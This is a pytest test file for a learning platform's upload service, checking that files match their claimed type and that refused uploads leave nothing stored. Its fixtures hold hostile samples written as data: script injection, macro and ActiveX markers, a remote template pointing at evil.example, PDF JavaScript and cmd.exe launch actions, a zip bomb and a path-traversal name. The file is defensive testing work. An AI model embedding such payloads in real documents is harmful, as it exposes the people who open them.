"""Uploads are judged by what they hold, not by what they are called; nothing half taken stays."""
from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from PIL import Image

from lms.core.errors import Invalid, TooLarge
from lms.core.files.service import store_upload
from lms.core.files.storage import LocalStorage

MB = 1024 * 1024
PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


def picture(kind: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "white").save(out, kind)
    return out.getvalue()


def office(folder: str, **more: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(f"{folder}/document.xml", "<x/>")
        for name, data in more.items():
            archive.writestr(name.replace("__", "/"), data)
    return out.getvalue()


@pytest.fixture
def storage(tmp_path: Path) -> LocalStorage:
    return LocalStorage(tmp_path / "files")


def take(storage: LocalStorage, data: bytes, name: str, limit: int = MB):
    return store_upload(storage, io.BytesIO(data), name=name, limit=limit)


def kept(storage: LocalStorage) -> list[Path]:
    return [p for p in storage.root.rglob("*") if p.is_file()] if storage.root.exists() else []


@pytest.mark.parametrize(("data", "name", "media_type"), [
    (PDF, "课件.pdf", "application/pdf"), (picture("PNG"), "图.PNG", "image/png"), (picture("JPEG"), "a.jpeg", "image/jpeg"),
    (picture("GIF"), "a.gif", "image/gif"), (picture("WEBP"), "a.webp", "image/webp"),
    (office("word"), "讲稿.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    (office("ppt"), "讲稿.pptx", "application/vnd.openxmlformats-officedocument.presentationml.presentation"),
    ("第一行".encode(), "说明.txt", "text/plain")])
def test_what_is_what_it_says_is_kept_byte_for_byte(storage, data, name, media_type):
    stored = take(storage, data, name)
    assert (stored.media_type, stored.size) == (media_type, len(data))
    with storage.open(stored.sha256) as file:
        assert file.read() == data


@pytest.mark.parametrize(("data", "name", "code"), [
    (b"", "a.pdf", "empty_file"), (b"<html><script>alert(1)</script>", "a.pdf", "not_what_it_says"),
    (PDF[:-8], "cut-off.pdf", "not_what_it_says"), (picture("PNG")[:-20], "cut.png", "not_what_it_says"),
    (picture("JPEG")[:-2], "cut.jpg", "not_what_it_says"), (picture("PNG"), "a.jpg", "not_what_it_says"),
    (PDF, "a.docx", "not_what_it_says"), (office("word")[:-30], "cut.docx", "not_what_it_says"),
    (office("word"), "really-word.xlsx", "not_what_it_says"),
    (office("word", word__vbaProject_bin=b"x").replace(b"vbaProject_bin", b"vbaProject.bin"), "macro.docx", "active_content"),
    (office("ppt", ppt__activeX__activeX1_xml=b"x"), "control.pptx", "active_content"),
    (office("word", word__embeddings__setup_exe=b"MZ").replace(b"setup_exe", b"setup.exe"), "program.docx", "active_content"),
    (office("word", word___rels__settings_xml_rels=b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>'
            ).replace(b"settings_xml_rels", b"settings.xml.rels"), "template.docx", "active_content"),
    (office("word", word__body_xml=b'<o:OLEObject ProgID="Package"/>').replace(b"body_xml", b"body.xml"), "package.docx", "active_content"),
    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2_000_000 + "_VBA_PROJECT".encode("utf-16-le"), "macro.xls", "active_content"),
    (PDF.replace(b"<<>>", b"<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>", 1), "script.pdf", "active_content"),
    (PDF.replace(b"<<>>", b"<</S/Launch/F(cmd.exe)>>", 1), "launch.pdf", "active_content"),
    (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "a.svg", "kind_not_accepted"), (b"MZ", "a.exe", "kind_not_accepted"),
    (b"x", "no-ending", "kind_not_accepted"), (b"\x00\x01", "a.txt", "not_what_it_says")])
def test_anything_else_is_refused_with_a_reason_and_leaves_nothing(storage, data, name, code):
    with pytest.raises(Invalid) as refusal:
        take(storage, data, name)
    assert refusal.value.code == code and not kept(storage)


def test_too_large_is_refused_while_it_comes_and_leaves_nothing(storage):
    with pytest.raises(TooLarge):
        take(storage, PDF[:-6] + b" " * MB + b"%%EOF\n", "a.pdf", limit=MB // 2)
    assert not kept(storage)


def test_a_bomb_in_an_office_file_is_refused(storage):
    bomb = office("word", word__media__big=b"\x00" * (150 * MB))
    assert len(bomb) < MB
    with pytest.raises(Invalid):
        take(storage, bomb, "bomb.docx")
    assert not kept(storage)


def test_the_same_bytes_lie_once(storage):
    assert take(storage, PDF, "a.pdf").sha256 == take(storage, PDF, "b.pdf").sha256
    assert len(kept(storage)) == 1


@pytest.mark.parametrize("name", ["../../etc/passwd", "", "a" * 63, "A" * 64, "g" * 64])
def test_only_a_hash_is_an_address(storage, name):
    with pytest.raises(ValueError):
        storage.path(name)
